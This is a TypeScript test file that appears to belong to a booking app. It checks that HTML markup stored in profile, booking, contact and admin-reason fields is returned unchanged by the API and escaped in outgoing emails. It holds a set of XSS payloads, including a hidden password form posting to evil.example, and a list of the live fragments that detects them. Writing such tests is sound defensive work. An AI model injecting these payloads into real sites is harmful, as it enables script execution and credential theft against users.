import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, expect, it } from "vitest";
import { addDays, operatorToday } from "../../shared/time.ts";
import { bookingForMail } from "../features/bookings/service.ts";
import { startJobWorker } from "../jobs/worker.ts";
import { createStaff } from "../test-support/operator.ts";
import { startMailCollector, type MailCollector } from "../test-support/http-customer.ts";
import { createTestApp, describeEachEngine, type TestApp } from "../test-support/test-app.ts";
import { createCustomerWithRows } from "./customer-rows.ts";
import { asJsonText } from "./hostile-text.ts";

// OWASP XSS Prevention Cheat Sheet, rule 1 (escape on output): markup typed into every text that
// is shown back (the customer's name, a booking's place and note, I.C.E. contacts, the operator's
// note, decline and rejection reasons) is kept and answered by the API as data, the same
// characters, and every mail built from it (sent over SMTP by the outbox worker) carries it
// escaped in its HTML part. How the dashboard and the console draw it in Chromium is
// e2e/hostile-input.spec.ts.

const markup = {
  fullName: `<img src=x onerror=alert(1)>`,
  location: `"><svg onload=alert(1)>, Stockholm`,
  notes: `<script>alert("note")</script>\n<iframe src="javascript:alert(1)"></iframe>`,
  contact: `<b onmouseover=alert(1)>Karin</b>`,
  confirmNote: `</p><script>alert("confirmed")</script>`,
  declineReason: `<a href="javascript:alert(1)">Read why</a>`,
  rejectReason: `<style>*{display:none}</style><form action=https://evil.example><input name=password>`,
};
/** The live part of each payload: none of these may reach a mail's HTML unescaped. */
const liveMarkup = [
  "<img src=x onerror",
  "<svg onload",
  "<script>alert(",
  "<iframe",
  "<b onmouseover",
  'href="javascript:',
  "<style>*{display",
  "<form action=https://evil",
  "<input name=password",
];

describeEachEngine("markup in every text that is shown back", (engine) => {
  let test: TestApp;
  let collector: MailCollector;
  beforeAll(async () => {
    collector = await startMailCollector();
    test = await createTestApp(engine, { SMTP_URL: collector.smtpUrl });
  });
  afterAll(async () => {
    await test.close();
    await collector.close();
  });

  it("is answered as the same characters by the API and escaped in every mail", async () => {
    const customer = await createCustomerWithRows(test);
    const operator = await createStaff(test, "operator");
    const headers = { cookie: customer.cookie };
    const staff = { cookie: operator.cookie };
    expect((await test.request("PATCH", "/api/profile", { body: { fullName: markup.fullName }, headers })).status).toBe(200);
    const contact = await test.request("PUT", `/api/emergency-contacts/${customer.ids.contact}`, {
      body: { name: markup.contact, phone: "+46 70 765 43 21", email: "" },
      headers,
    });
    expect(contact.status).toBe(200);
    const book = async () => {
      const bookingId = randomUUID();
      const created = await test.request("POST", "/api/bookings", {
        body: {
          bookingId,
          location: markup.location,
          startDate: addDays(operatorToday(new Date()), 20),
          services: [{ serviceId: "svc-residential", options: { guards: 1, days: 1, timeOfDay: "day" } }],
          notes: markup.notes,
          language: "en",
        },
        headers,
      });
      expect(created.status).toBe(201);
      return bookingId;
    };
    const confirmed = await book();
    const declined = await book();
    expect(
      (await test.request("POST", `/api/admin/bookings/${confirmed}/confirm`, { body: { note: markup.confirmNote }, headers: staff }))
        .status,
    ).toBe(200);
    expect(
      (await test.request("POST", `/api/admin/bookings/${declined}/decline`, { body: { reason: markup.declineReason }, headers: staff }))
        .status,
    ).toBe(200);
    expect((await test.request("POST", `/api/bookings/${confirmed}/cancel`, { headers })).status).toBe(200);
    const rejected = await test.request("POST", `/api/admin/id-verifications/${customer.ids.document}/reject`, {
      body: { reason: markup.rejectReason },
      headers: staff,
    });
    expect(rejected.status).toBe(200);

    // The API answers every one of them as data, character for character.
    const answers = [
      await test.request("GET", "/api/account/profile", { headers }),
      await test.request("GET", `/api/bookings/${confirmed}`, { headers }),
      await test.request("GET", "/api/emergency-contacts", { headers }),
      await test.request("GET", "/api/account/id-verifications", { headers }),
      await test.request("GET", `/api/admin/bookings/${confirmed}`, { headers: staff }),
      await test.request("GET", `/api/admin/bookings/${declined}`, { headers: staff }),
    ]
      .map((response) => JSON.stringify(response.body))
      .join("\n");
    for (const [field, text] of Object.entries(markup).filter(([field]) => field !== "confirmNote" && field !== "declineReason")) {
      expect(answers, field).toContain(asJsonText(text));
    }
    for (const text of [markup.confirmNote, markup.declineReason]) expect(answers).toContain(asJsonText(text));
    for (const response of [await test.app.request("/api/account/profile", { headers })]) {
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.headers.get("content-security-policy")).toContain("default-src 'none'");
    }

    // Every mail to the customer: the text part carries the words, the HTML part no live markup.
    const worker = startJobWorker(test.deps, {
      pollIntervalMs: 60_000,
      sources: { booking: (bookingId) => bookingForMail(test.deps, bookingId) },
    });
    while ((await worker.runOnce()) > 0);
    await worker.stop();
    const mails = collector.mails.filter((mail) => mail.to.split(",").includes(customer.user.email));
    expect(mails.length).toBeGreaterThanOrEqual(5);
    const allText = mails.map((mail) => mail.text).join("\n");
    for (const text of [markup.fullName, markup.location, markup.confirmNote, markup.declineReason, markup.rejectReason]) {
      expect(allText).toContain(text);
    }
    // The payloads are in the HTML too, as text: escaped, not dropped.
    const allHtml = mails.map((mail) => mail.html).join("\n");
    expect(allHtml).toMatch(/(&#60;|&lt;)script(&#62;|&gt;)alert\(/);
    expect(allHtml).toMatch(/(&#60;|&lt;)img src=x onerror=alert\(1\)(&#62;|&gt;)/);
    for (const mail of mails) {
      const { html } = mail;
      expect(html.length, mail.subject).toBeGreaterThan(0);
      for (const live of liveMarkup) expect(html.toLowerCase(), `${mail.subject}: ${live}`).not.toContain(live.toLowerCase());
      expect(mail.subject).not.toMatch(/[\r\n]/);
    }
  });
});
